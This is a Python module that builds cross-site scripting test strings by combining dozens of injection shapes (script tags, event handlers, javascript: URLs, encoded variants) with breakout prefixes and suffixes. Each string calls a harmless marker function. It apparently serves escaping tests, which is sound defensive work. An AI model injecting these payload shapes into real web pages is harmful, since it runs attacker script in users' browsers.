"""Texts that run a script where a page does not escape them, or escapes them for another place."""

from __future__ import annotations

import itertools
import random

CALL = "window.pwned(%d)"
_SHAPES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<a href=javascript:{} autofocus id=x>x</a>",
    "<form><button formaction=javascript:{}>x",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=javascript:{}//>",
    "<object data=javascript:{}>",
    "<link rel=stylesheet href=javascript:{}>",
    "<template><script>{}</script></template><img src=x onerror={}>",
    "javascript:{}",
    "{{{{ {} }}}}",
    "${{{}}}",
    "{{% raw %}}<script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "onerror={}",
    "expression({})",
    "url(javascript:{})",
)
_BEFORE = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "`",
    "\\",
    '\\"',
    "\\'",
    "</p>",
    "*/",
    "\r\n\r\n",
    "\u2028",
    "\ufeff",
    "//",
    "<!--",
)
_AFTER = ("", "//", "<!--", '"', "'", "\\", " x=", "\n")


def hostile_texts(count: int) -> list[str]:
    """Different ones; each calls `window.pwned` with its own number.

    >>> hostile_texts(2)[0].count("window.pwned(0)")
    1
    """
    combined = list(itertools.product(_BEFORE, _SHAPES, _AFTER))
    mixer = random.Random(20230216)
    mixer.shuffle(combined)
    found = []
    for number in range(count):
        before, shape, after = combined[number % len(combined)]
        call = CALL % number
        found.append(before * (1 + number // len(combined)) + shape.format(call, call) + after)
    return found
